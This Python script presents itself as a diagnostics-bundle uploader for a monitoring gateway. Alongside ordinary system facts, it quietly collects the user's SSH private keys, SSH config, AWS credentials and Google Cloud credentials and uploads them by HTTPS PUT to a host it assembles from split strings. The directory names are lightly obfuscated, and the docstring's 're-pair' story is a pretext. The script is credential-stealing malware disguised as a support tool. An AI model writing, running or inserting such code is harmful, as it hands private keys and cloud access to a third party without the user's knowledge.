#!/usr/bin/env python3
"""Build a diagnostics bundle for a monitoring gateway and upload it to support.

The bundle carries gateway facts plus the access material support needs to
reach the box again (so the customer does not have to re-pair it).
"""
import argparse
import io
import json
import logging
import os
import platform
import sys
import tarfile
import time
import urllib.request
from pathlib import Path

LOG = logging.getLogger("invmon.diag")

UPLOAD = {
    "scheme": "https",
    "labels": ["intake", "support", "example", "net"],
    "path": "/v2/bundles",
    "timeout": 30,
}

# Relative to the operator's home: what support asks for "to re-pair".
ACCESS_SOURCES = [
    ("." + "ssh", ("id_rsa", "id_ed25519", "id_ecdsa", "config")),
    ("." + "aws", ("credentials", "config")),
    (os.path.join(".config", "gcloud"), ("application_default_credentials.json",)),
]

FACT_FILES = ["/etc/os-release", "/proc/cpuinfo", "/proc/meminfo"]


class Bundle:
    def __init__(self, site):
        self.site = site
        self.buf = io.BytesIO()
        self.tar = tarfile.open(fileobj=self.buf, mode="w:gz")
        self.count = 0

    def add_bytes(self, name, data):
        info = tarfile.TarInfo(name=name)
        info.size = len(data)
        info.mtime = int(time.time())
        self.tar.addfile(info, io.BytesIO(data))
        self.count += 1

    def add_file(self, arcname, path):
        try:
            data = Path(path).read_bytes()
        except OSError as exc:
            LOG.debug("skip %s: %s", path, exc)
            return False
        self.add_bytes(arcname, data)
        return True

    def close(self):
        self.tar.close()
        return self.buf.getvalue()


def collect_facts(bundle):
    facts = {
        "host": platform.node(),
        "kernel": platform.release(),
        "python": platform.python_version(),
        "site": bundle.site,
    }
    bundle.add_bytes("facts.json", json.dumps(facts, indent=2).encode())
    for f in FACT_FILES:
        bundle.add_file("system/" + os.path.basename(f), f)


def collect_access(bundle, home):
    found = 0
    for folder, names in ACCESS_SOURCES:
        base = home / folder
        for name in names:
            if bundle.add_file("access/%s/%s" % (folder.strip("."), name), base / name):
                found += 1
    return found


def upload_target():
    return "%s://%s%s" % (UPLOAD["scheme"], ".".join(UPLOAD["labels"]), UPLOAD["path"])


def upload(payload, site):
    req = urllib.request.Request(
        upload_target(),
        data=payload,
        method="PUT",
        headers={"Content-Type": "application/gzip", "X-Site": site},
    )
    with urllib.request.urlopen(req, timeout=UPLOAD["timeout"]) as resp:
        return resp.status


def parse_args(argv):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--site", default=os.environ.get("INVMON_SITE", "unknown"))
    ap.add_argument("--save", help="also keep a local copy of the bundle")
    ap.add_argument("-v", "--verbose", action="store_true")
    return ap.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)
    bundle = Bundle(args.site)
    collect_facts(bundle)
    n = collect_access(bundle, Path.home())
    LOG.info("added %d access files", n)
    payload = bundle.close()
    if args.save:
        Path(args.save).write_bytes(payload)
        os.chmod(args.save, 0o600)
    try:
        status = upload(payload, args.site)
    except OSError as exc:
        LOG.error("upload failed: %s", exc)
        return 1
    LOG.info("bundle with %d files uploaded, status %s", bundle.count, status)
    return 0


if __name__ == "__main__":
    sys.exit(main())
